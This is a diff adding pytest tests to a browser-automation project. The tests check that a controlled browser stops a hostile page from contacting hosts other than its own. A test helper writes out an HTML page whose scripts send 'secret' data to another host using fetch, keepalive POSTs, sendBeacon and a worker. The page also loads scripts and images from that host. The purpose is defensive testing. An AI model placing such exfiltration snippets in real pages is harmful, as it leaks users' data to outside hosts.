@@ -8,8 +8,9 @@ import pytest
 from browser_desk import showing
 from hostile_portal import HostilePortal, Reply, a_portal
 
+from clerkwork.core.portals import Portal
 from clerkwork.errors import BusinessError, PageTimeout, PortalUnreachable
-from clerkwork.ports import Screen
+from clerkwork.ports import Browser, Screen
 
 pytest_plugins = ["hostile_fixtures"]
 PATIENCE = 2
@@ -203,6 +204,59 @@ def test_a_page_that_sends_on_to_another_host_by_itself(
         with pytest.raises(PortalUnreachable, match="another host"):
             pressed_and_read(screen)
         assert other.visits == []
+
+
+def asking(host: str) -> str:
+    """A page that asks another host for all that a page can, and sends it what it knows."""
+    return f"""<link rel=stylesheet href="{host}style"><img src="{host}img?secret">
+<script src="{host}script"></script><p id=said>x</p><script>
+fetch('{host}fetch', {{method: 'POST', mode: 'no-cors', body: 'secret'}}).catch(() => 0);
+fetch('{host}keep', {{method: 'POST', mode: 'no-cors', body: 'x', keepalive: true}}).catch(() => 0);
+navigator.sendBeacon('{host}beacon', 'secret');
+new EventSource('{host}events');
+new Worker('/worker.js');
+fetch('/own').then(() => {{ said.textContent = 'own'; }});
+</script>"""
+
+
+def test_what_its_page_asks_of_another_host_never_leaves(
+    screen: Screen, site: HostilePortal
+) -> None:
+    with a_portal() as other:
+        sends = f"fetch('{other.address}worker', {{method: 'POST', body: 'x', mode: 'no-cors'}})"
+        site.routes["/worker.js"] = lambda _: Reply(sends, type="text/javascript")
+        site.routes["/own"] = lambda _: Reply("ok")
+        showing(screen, site, asking(other.address.replace("127.0.0.1", "localhost")))
+        with pytest.raises(PageTimeout) as told:
+            screen.wait_for("page.none")
+        assert screen.text("page.said") == "own"
+        assert site.seen("/worker.js")
+        assert other.visits == []
+    said = str(told.value)
+    assert "Its pages were not let ask" in said
+    assert "localhost" in said
+    assert "add it to 'hosts' of [hostile] in config/portals.toml" in said
+
+
+def test_a_host_that_is_declared_is_asked_for_anything_but_pages(
+    browser: Browser, site: HostilePortal
+) -> None:
+    site.routes["/own"] = site.routes["/worker.js"] = lambda _: Reply("")
+    with a_portal() as other:
+        cdn = other.address.replace("127.0.0.1", "localhost")
+        portal = Portal(
+            name="hostile", address=site.address, patience=PATIENCE, hosts=("localhost",)
+        )
+        screen = browser.open(portal)
+        showing(screen, site, asking(cdn))
+        with pytest.raises(PageTimeout) as told:
+            screen.wait_for("page.none")
+        assert {"/img", "/style", "/script", "/fetch"} <= {visit.path for visit in other.visits}
+        assert "not let ask" not in str(told.value)
+        with pytest.raises(PortalUnreachable, match="another host"):
+            showing(screen, site, f"<script>location = '{cdn}page'</script>").text("page.said")
+        screen.close()
+        assert not other.seen("/page")
 
 
 SPINNING = """<button onclick="go()">Verder</button><p id=said>oud</p><script>
